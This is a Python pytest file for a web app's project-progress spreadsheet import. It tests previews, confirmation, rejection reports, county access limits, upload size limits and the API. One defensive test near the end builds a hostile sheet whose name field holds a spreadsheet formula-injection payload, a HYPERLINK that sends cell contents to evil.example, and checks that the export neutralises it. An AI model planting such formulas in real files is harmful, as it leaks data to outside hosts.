"""项目进度导入 on the web (page and API), on SQLite and PostgreSQL: the template, an upload's
report by sheet, row, column and reason or its preview, 确认导入, the history; a rejected file
is not kept and stores nothing; a county analyst may not import another county's projects; the
body is limited at the edge."""

from __future__ import annotations

import re
from dataclasses import replace
from pathlib import Path

import pytest
from fastapi.testclient import TestClient

from commerce_brain.catalog import load_catalog
from commerce_brain.io.project_reports_template import write_project_reports_template
from commerce_brain.projects.catalog import load_project_catalog
from commerce_brain.settings import Settings, UploadLimits
from commerce_brain.store.accounts import create_user, issue_token
from commerce_brain.store.audit import events
from commerce_brain.store.project_tables import list_project_imports, newest_reports
from commerce_brain.store.schema import connect
from commerce_brain.web.app import create_app
from test_project_pages import PASSWORD, sign_in

HEADER = "project,month,annual_plan_yi,completed_ytd_yi,stage\n"
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


@pytest.fixture
def site(database_url, tmp_path):
    catalog = load_catalog()
    engine = connect(database_url)
    tokens = {}
    for username, role, org_unit in (("city", "city_analyst", None), ("kecheng", "county_analyst", "330802"),
                                     ("boss", "leader", None)):
        user = create_user(engine, username=username, password=PASSWORD, role=role, display_name=username,
                           org_unit=org_unit, catalog=catalog)
        tokens[username] = {"Authorization": f"Bearer {issue_token(engine, user.id, 'test')}"}
    settings = replace(Settings.from_env(database_url=database_url, data_dir=tmp_path),
                       uploads=replace(UploadLimits(), actuals_mb=1))
    app = create_app(settings)
    sample = write_project_reports_template(tmp_path / "项目进度样例.xlsx", load_project_catalog().projects,
                                            sample=True)
    yield {"app": app, "engine": engine, "tokens": tokens, "uploads": tmp_path / "uploads", "sample": sample}
    engine.dispose()


def leftovers(folder: Path) -> list[str]:
    return sorted(p.name for p in folder.iterdir()) if folder.exists() else []


def text_of(html: str) -> str:
    return re.sub(r"<[^>]+>", " ", html)


def test_the_sample_is_previewed_confirmed_and_lights_the_projects(site):
    client, csrf = sign_in(site, "city")
    template = client.get("/project-imports/template.xlsx")
    assert template.status_code == 200 and template.content[:2] == b"PK"
    with site["sample"].open("rb") as handle:
        preview = client.post("/project-imports/preview", data={"csrf": csrf},
                              files={"file": ("项目进度样例.xlsx", handle, XLSX)})
    assert preview.status_code == 200, preview.text[-500:]
    assert "校验通过：项目进度样例.xlsx" in preview.text and "衢州市城东冷链物流中心" in preview.text
    assert newest_reports(site["engine"]).is_empty()  # a preview stores nothing
    sha = re.search(r'name="sha" value="([0-9a-f]{64})"', preview.text).group(1)
    done = client.post("/project-imports/confirm", data={"csrf": csrf, "sha": sha, "suffix": ".xlsx",
                                                         "file_name": "项目进度样例.xlsx"})
    assert done.status_code == 200 and "已导入：项目进度样例.xlsx" in done.text
    assert leftovers(site["uploads"]) == []  # the rows are in the store; the file is not kept
    assert newest_reports(site["engine"]).height == 10
    [logged] = list_project_imports(site["engine"])
    assert logged["file_name"] == "项目进度样例.xlsx" and logged["imported_by"] == "city"
    assert any(e["action"] == "project_reports.save" for e in events(site["engine"]))
    lights = {r["id"]: r["light"] for r in client.get("/api/v1/projects/status").json()}
    assert (lights["zl13-01"], lights["zl13-02"], lights["zl13-04"], lights["zl13-06"], lights["zl14-01"]) == (
        "green", "yellow", "red", "red", "red")
    assert lights["kp-2023-001"] == "green"  # the 重点项目 of the 项目 sheet joined the list
    page = text_of(client.get("/projects").text)
    assert "2023年10月" in page and "衢州市城东冷链物流中心" in page and "重点项目" in page
    assert "项目进度样例.xlsx" in text_of(client.get("/project-imports").text)  # the history
    # The import raised the month's warnings: the red project's page links to its own.
    assert re.search(r'<a href="/warnings/\d+">', client.get("/projects/zl13-04").text)


@pytest.mark.parametrize(("row", "column", "reason"), [
    # The column as the file heads it.
    ("zl13-01,2023-10,1,0.5,galactic", "stage", "建设阶段"),  # a stage outside the vocabulary
    ("zl13-01,2023-13,1,0.5,under_construction", "month", "月份"),
    ("zl13-01,2023-10,1,0.123456,under_construction", "completed_ytd_yi", "1 万元"),  # finer than 1 万元
    ("zl99-99,2023-10,1,0.5,under_construction", "project", "项目"),  # no such project
])
def test_a_bad_row_rejects_the_whole_file_naming_sheet_row_column_and_reason(site, row, column, reason):
    client, csrf = sign_in(site, "city")
    content = (HEADER + "zl13-02,2023-10,3,2.2,under_construction\n" + row + "\n").encode()
    answer = client.post("/project-imports/preview", data={"csrf": csrf},
                         files={"file": ("进度.csv", content, "text/csv")})
    assert answer.status_code == 422
    cells = re.findall(r"<tr><td>([^<]*)</td><td>([^<]*)</td><td>([^<]*)</td><td>([^<]*)</td></tr>", answer.text)
    assert any(sheet.startswith("进度") and line == "3" and col.startswith(column) and reason in why
               for sheet, line, col, why in cells), cells
    assert "文件被整体退回" in answer.text
    assert leftovers(site["uploads"]) == [] and newest_reports(site["engine"]).is_empty()
    assert any(e["action"] == "import_rejected" and e["detail"]["kind"] == "project_reports"
               for e in events(site["engine"])), [e["action"] for e in events(site["engine"])]


def test_a_county_analyst_may_not_import_another_countys_projects(site):
    client, csrf = sign_in(site, "kecheng")
    with site["sample"].open("rb") as handle:  # the sample reports 衢江's and 智慧新城's projects too
        answer = client.post("/project-imports/preview", data={"csrf": csrf},
                             files={"file": ("项目进度样例.xlsx", handle, XLSX)})
    assert answer.status_code == 422
    assert "超出您的范围" in answer.text and "衢江区国家（衢州）纸浆储备库" in answer.text
    assert leftovers(site["uploads"]) == [] and newest_reports(site["engine"]).is_empty()
    own = (HEADER + "zl13-04,2023-10,2,0.8,under_construction\n").encode()
    fine = client.post("/project-imports/preview", data={"csrf": csrf}, files={"file": ("柯城.csv", own, "text/csv")})
    assert fine.status_code == 200 and "校验通过" in fine.text


def test_the_api_imports_all_or_nothing_with_a_dry_run(site):
    headers = site["tokens"]["city"]
    client = TestClient(site["app"])
    content = (HEADER + "zl13-01,2023-10,1,0.972,under_construction\n").encode()
    dry = client.post("/api/v1/projects/imports?dry_run=true", headers=headers,
                      files={"file": ("进度.csv", content, "text/csv")})
    assert dry.status_code == 200 and dry.json()["counts"]["reports"]["new"] == 1 and dry.json()["import_id"] is None
    assert newest_reports(site["engine"]).is_empty()
    done = client.post("/api/v1/projects/imports", headers=headers, files={"file": ("进度.csv", content, "text/csv")})
    assert done.status_code == 200 and done.json()["import_id"] is not None
    assert newest_reports(site["engine"]).height == 1
    bad = client.post("/api/v1/projects/imports", headers=headers,
                      files={"file": ("进度.csv", (HEADER + "zl13-01,2023-10,1,x,completed\n").encode(), "text/csv")})
    assert bad.status_code == 422 and bad.json()["problems"][0]["field"].startswith("进度")
    assert newest_reports(site["engine"]).height == 1 and leftovers(site["uploads"]) == []
    assert [h["file_name"] for h in client.get("/api/v1/projects/imports", headers=headers).json()] == ["进度.csv"]
    assert client.post("/api/v1/projects/imports", headers=site["tokens"]["boss"],
                       files={"file": ("进度.csv", content, "text/csv")}).status_code == 403


def test_a_body_past_the_limit_is_413_before_it_is_read(site):
    client, csrf = sign_in(site, "city")
    big = (HEADER + "zl13-01,2023-10,1,0.5,under_construction\n" * 40_000).encode()  # ~1.6 MB against 1 MB
    answer = client.post("/project-imports/preview", data={"csrf": csrf}, files={"file": ("大.csv", big, "text/csv")})
    assert answer.status_code == 413 and "上限为 1 MB" in answer.text
    api = client.post("/api/v1/projects/imports", headers=site["tokens"]["city"],
                      files={"file": ("大.csv", big, "text/csv")})
    assert api.status_code == 413
    assert leftovers(site["uploads"]) == []


def test_an_imported_name_that_is_a_formula_stays_text_in_the_export(site, tmp_path):
    from openpyxl import Workbook, load_workbook

    from commerce_brain.io.project_reports_import import PROJECT_FIELDS, REPORT_FIELDS

    book = Workbook()
    book.active.title = "进度"
    book.active.append(list(REPORT_FIELDS))
    book.active.append(["kp-evil", "2023-10", "1", "0.9", "under_construction", None, None, None, None])
    projects = book.create_sheet("项目")
    projects.append(list(PROJECT_FIELDS))
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")'
    projects.append(["kp-evil", formula, "2023", "2025", "2", "2", "@衢江区政府", "衢江区"])
    projects["B2"].data_type = "s"  # text that looks like a formula, as a hostile sheet stores it
    path = tmp_path / "恶意.xlsx"
    book.save(path)
    headers = site["tokens"]["city"]
    client = TestClient(site["app"])
    with path.open("rb") as handle:
        done = client.post("/api/v1/projects/imports", headers=headers, files={"file": ("恶意.xlsx", handle, XLSX)})
    assert done.status_code == 200, done.text
    export = client.get("/projects/export.xlsx?column=", headers=headers)
    sheet = load_workbook(__import__("io").BytesIO(export.content)).active
    row = next(r for r in sheet.iter_rows(values_only=True) if r[0] == "重点项目")
    assert row[2] == "'" + formula and row[3] == "'@衢江区政府"


def test_the_api_status_is_the_clis_json(tmp_path, monkeypatch):
    import json

    from test_cli import run

    monkeypatch.setenv("COMMERCE_BRAIN_DATA_DIR", str(tmp_path / "data"))
    monkeypatch.delenv("COMMERCE_BRAIN_DATABASE_URL", raising=False)
    sample = tmp_path / "project-reports-sample.xlsx"
    run("projects", "template", str(sample), "--sample")
    run("projects", "import", str(sample), "--user", "市商务局")
    cli = json.loads(run("projects", "status", "--month", "2023-10", "--format", "json").stdout)
    settings = Settings.from_env()
    engine = connect(settings.database_url)
    user = create_user(engine, username="city", password=PASSWORD, role="city_analyst", display_name="市商务局",
                       catalog=load_catalog())
    token = {"Authorization": f"Bearer {issue_token(engine, user.id, 'test')}"}
    api = TestClient(create_app(settings)).get("/api/v1/projects/status?month=2023-10", headers=token).json()
    assert api == cli and len(api) == 59
    engine.dispose()
